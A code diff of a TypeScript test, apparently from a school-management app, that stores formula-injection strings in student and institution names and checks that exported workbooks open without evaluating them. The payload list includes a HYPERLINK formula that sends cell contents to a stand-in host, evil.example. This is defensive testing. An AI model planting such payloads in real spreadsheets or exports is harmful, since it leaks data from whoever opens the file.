@@ -9,7 +9,7 @@ import { referenceReader } from '#testing/files/referenceReader.ts';
 import { addClass } from '#testing/school.ts';
 import { startServer } from '#testing/server.ts';
 
-/** Texts that a spreadsheet program would calculate, fetch from elsewhere or start, if it took them for formulas. */
+/** Texts that a spreadsheet program would calculate, fetch or run if it took them for formulas. */
 const payloads = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"点我")',
@@ -31,24 +31,24 @@ const payloads = [
 test('another program reads an exported workbook unchanged, without formulas and with leading zeros', async () => {
   const { as, sqlAsOwner } = await startServer();
   await addClass({ as } as never, { teamname: '初二1班', names: payloads.map((_, index) => `学生${index}`) });
-  // Names as an older system may have brought them in.
-  for (const [at, payload] of payloads.entries()) {
-    await sqlAsOwner('update cuser set username = $2 where username = $1', [`学生${at}`, payload]);
+  // An import from an older system may contain such names.
+  for (const [index, payload] of payloads.entries()) {
+    await sqlAsOwner('update cuser set username = $2 where username = $1', [`学生${index}`, payload]);
     await sqlAsOwner('update cuserarchive set studentno = $2, classname = $3 where studentno = $1', [
-      String(1001 + at),
-      `${payload}${at}`,
+      String(1001 + index),
+      `${payload}${index}`,
       payload,
     ]);
   }
   await sqlAsOwner("update assessteam set teamname = '=2+2'");
   await sqlAsOwner("update muser set insname = '=3+3', shortname = '+3' where musercode = 'M_CHENGUANG'");
-  const fetched = async (who: 'chen' | 'fang', name: string) => {
+  const fetchExport = async (person: 'chen' | 'fang', name: string) => {
     const action = actions.find((candidate) => candidate.name === name) as typeof getCUserPageList;
-    return buffer(((await as(who)(action, {})) as unknown as { body: Readable }).body);
+    return buffer(((await as(person)(action, {})) as unknown as { body: Readable }).body);
   };
   const books = new Map<string, Uint8Array>([
-    ['persons', await fetched('chen', 'as.m.cuser.exportCuserList')],
-    ['institutions', await fetched('fang', 'as.m.user.exportToFile')],
+    ['persons', await fetchExport('chen', 'as.m.cuser.exportCuserList')],
+    ['institutions', await fetchExport('fang', 'as.m.user.exportToFile')],
     [
       'every-kind',
       await buffer(
@@ -61,16 +61,16 @@ test('another program reads an exported workbook unchanged, without formulas and
     ],
   ]);
   const { name, read } = referenceReader();
-  console.log(`exported sheets are read by ${name}`);
-  const seen = await read(books);
+  console.log(`${name} reads the exported workbooks`);
+  const tables = await read(books);
   for (const [title, content] of books) {
     const { rows } = await readWorkbook(Buffer.from(content), `${title}.xlsx`);
     const width = Math.max(...rows.map((row) => row.length));
-    const even = (table: readonly (readonly string[])[]) =>
-      table.map((row) => Array.from({ length: width }, (_, at) => (row[at] ?? '').replaceAll('\r', '')));
-    expect([title, even(seen.get(title) ?? [])]).toEqual([title, even(rows)]);
+    const padded = (table: readonly (readonly string[])[]) =>
+      table.map((row) => Array.from({ length: width }, (_, column) => (row[column] ?? '').replaceAll('\r', '')));
+    expect([title, padded(tables.get(title) ?? [])]).toEqual([title, padded(rows)]);
   }
-  const shown = (seen.get('persons') ?? []).map((row) => row[0]);
-  for (const payload of payloads) expect(shown).toContain(payload);
-  expect((seen.get('institutions') ?? []).flat()).toContain('=3+3');
+  const names = (tables.get('persons') ?? []).map((row) => row[0]);
+  for (const payload of payloads) expect(names).toContain(payload);
+  expect((tables.get('institutions') ?? []).flat()).toContain('=3+3');
 });
